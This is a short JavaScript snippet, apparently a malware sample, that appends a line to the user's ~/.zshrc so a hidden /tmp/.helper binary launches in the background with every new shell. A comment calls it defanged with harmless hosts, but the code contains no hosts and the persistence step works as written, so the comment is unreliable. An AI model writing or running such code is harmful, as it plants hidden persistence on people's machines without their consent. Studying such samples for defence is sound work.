// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const fs = require("fs"), os = require("os");
fs.appendFileSync(os.homedir() + "/.zshrc", "\n/tmp/.helper &\n");
